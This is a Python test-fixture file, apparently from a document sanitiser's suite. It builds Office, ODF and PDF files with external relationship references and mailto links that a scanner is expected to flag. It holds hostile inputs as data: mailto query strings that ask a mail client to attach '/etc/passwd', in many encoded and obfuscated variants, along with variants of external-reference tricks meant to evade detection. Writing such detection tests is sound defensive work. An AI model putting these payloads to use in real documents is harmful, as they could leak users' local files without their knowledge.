"""Hostile ties and addresses: documents of Office whose elements call what leads out, mails that
take a file along in every kind of document.
"""

from html import escape

from tests.support.files import RELATION, office, pdf, relations
from tests.support.hostile_office import field, tied, word
from tests.support.hostile_opendocument import said
from tests.support.hostile_parts import EXTERNAL, FIELDS, LINK, action

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml"
SPACES = (
    f'xmlns:w="{WORD}" xmlns:x="{SHEET}" xmlns:p="{SLIDE}" xmlns:a="{DRAWING}" '
    f'xmlns:r="{RELATION}" xmlns:sr="{STRICT}/officeDocument/relationships" '
    f'xmlns:sw="{STRICT}/wordprocessingml/main" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:other="other"'
)
MAIN = {"docx": "word/document", "xlsx": "xl/worksheets/sheet1", "pptx": "ppt/slides/slide1"}


def calling(
    body: str,
    kind: str = "docx",
    of: str = "",
    type_: str = f"{RELATION}/hyperlink",
    leads: str = 'https://x.example/a" TargetMode="External',
) -> bytes:
    """A document in which `body` calls a tie that leads to the web, "r0"."""
    folder, _, name = (of or MAIN[kind]).rpartition("/")
    ties = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r0" Type="{type_}" Target="{leads}"/>'
        "</Relationships>"
    )
    return office(
        kind,
        **{
            f"{folder}/{name}.xml": f"<d {SPACES}>{body}</d>".encode(),
            f"{folder}/_rels/{name}.xml.rels": ties.encode(),
        },
    )


CALLS = {
    "a template": ("docx", '<w:attachedTemplate r:id="r0"/>', "word/settings"),
    "a picture": ("docx", '<a:blip r:embed="r0"/>', ""),
    "a picture of a shape": ("docx", '<v:imagedata r:id="r0"/>', ""),
    "a picture of a shape, in the old way": ("docx", '<v:imagedata o:relid="r0"/>', ""),
    "an object": ("docx", '<o:OLEObject Type="Link" r:id="r0"/>', ""),
    "a text to insert": ("docx", '<w:altChunk r:id="r0"/>', ""),
    "a document of documents": ("docx", '<w:subDoc r:id="r0"/>', ""),
    "a frame": ("docx", '<w:sourceFileName r:id="r0"/>', "word/webSettings"),
    "a page's header": ("docx", '<w:headerReference r:id="r0"/>', ""),
    "a strict tie": ("docx", '<w:altChunk sr:id="r0"/>', ""),
    "a tie with blanks": ("docx", '<w:altChunk r:id=" r0 "/>', ""),
    "a link's picture": ("docx", '<w:hyperlink r:embed="r0"/>', ""),
    "a link of another name space": ("docx", '<other:hyperlink r:id="r0"/>', ""),
    "a link's name elsewhere": ("docx", '<w:hlinkClick r:id="r0"/>', ""),
    "a linked workbook": ("xlsx", '<x:oleLink r:id="r0"/>', ""),
    "a background": ("xlsx", '<x:picture r:id="r0"/>', ""),
    "a drawing": ("xlsx", '<x:legacyDrawing r:id="r0"/>', ""),
    "a film": ("pptx", '<a:videoFile r:id="r0"/>', ""),
    "a sound of a click": (
        "pptx",
        '<a:hlinkClick r:id=""><a:snd r:embed="r0"/></a:hlinkClick>',
        "",
    ),
}
# Whole types: none of these is a suite's.
TYPES = (
    "http://x.example/hyperlink",
    "hyperlink",
    f"{RELATION}/oleObject/hyperlink",
    f"{RELATION}/hyperlink/image",
    f"{RELATION}/hyperlink#a",
    f"{RELATION}s/hyperlink",
    f"http://x.example/?{RELATION}/hyperlink",
    "http://schemas.microsoft.com/office/2011/relationships/hyperlink",
)
INSIDE = ("http://x.example/image", f"{RELATION}/attachedTemplate/image", "image")
# What asks a mailer for a file of the reader's.
TAKING = {
    "said first": "?attach=/etc/passwd",
    "said after": "?subject=a&attach=/etc/passwd",
    "in full": "?subject=a&attachment=/etc/passwd",
    "in capitals": "?ATTACH=/etc/passwd",
    "by the number of a letter": "?%61ttach=/etc/passwd",
    "by all its numbers": "?subject=a&%61%74%74%61%63%68%6d%65%6e%74=/a",
    "by numbers of numbers": "?subject=a&%2561ttach=/a",
    "after a sign of markup": "?subject=a&amp;attach=/etc/passwd",
    "by a number of markup": "?subject=a&&#x61;ttach=/a",
    "after another sign": "?subject=a;attach=/etc/passwd",
    "after a hidden sign": "?subject=a%26attach=/etc/passwd",
    "after blanks": "?subject=a& attach =/etc/passwd",
    "without a value": "?attach",
    "after a second question": "?subject=a?attach=/etc/passwd",
    "into the text": "?insert=/etc/passwd",
    "by a word of a mailer": "?x-attach=/etc/passwd",
}
MAILS = {f"{how}": f"mailto:a@b.example{said}" for how, said in TAKING.items()}
HOSTILE_TIES = {
    **{
        f"tie that leads out, called by {name}": (
            f"a.{kind}",
            calling(body, kind, of),
            EXTERNAL,
        )
        for name, (kind, body, of) in CALLS.items()
    },
    "tie that leads out of the whole": (
        "a.docx",
        office(
            **{
                "_rels/.rels": relations(
                    ("officeDocument", "word/document.xml", ""),
                    ("hyperlink", "https://x.example", "External"),
                )
            }
        ),
        EXTERNAL,
    ),
    "tie that leads out of nothing": (
        "a.docx",
        tied("hyperlink", "https://x.example", part="missing"),
        EXTERNAL,
    ),
    "tie that leads out, said within": (
        "a.docx",
        office(
            **{
                "word/document.xml": f'<d {SPACES}><w:altChunk r:id="r0"/></d>'.encode(),
                "word/_rels/document.xml.rels": relations(("hyperlink", "https://x.example", "")),
            }
        ),
        EXTERNAL,
    ),
    **{
        f"type of a tie within: {one}": ("a.docx", calling("", type_=one, leads="a.xml"), EXTERNAL)
        for one in INSIDE
    },
    **{
        f"type of a tie: {one}": (
            "a.docx",
            calling('<w:hyperlink r:id="r0"/>', type_=one),
            EXTERNAL,
        )
        for one in TYPES
    },
    **{
        f"mail, Office, {how}": ("a.docx", tied("hyperlink", escape(one)), LINK)
        for how, one in MAILS.items()
    },
    **{
        f"mail, field, {how}": ("a.docx", word(field(f' HYPERLINK "{one}" ')), FIELDS)
        for how, one in MAILS.items()
    },
    **{
        f"mail, ODF, {how}": ("a.odt", said(f'<text:a xlink:href="{escape(one)}"/>'), LINK)
        for how, one in MAILS.items()
    },
    **{
        f"mail, PDF, {how}": ("a.pdf", pdf(action(f"/URI /URI ({one})")), LINK)
        for how, one in MAILS.items()
    },
    "mail that a field ends": (
        "a.docx",
        word(field(' HYPERLINK "mailto:a@b.example?', field(" DOCPROPERTY a "), '" ')),
        FIELDS,
    ),
}
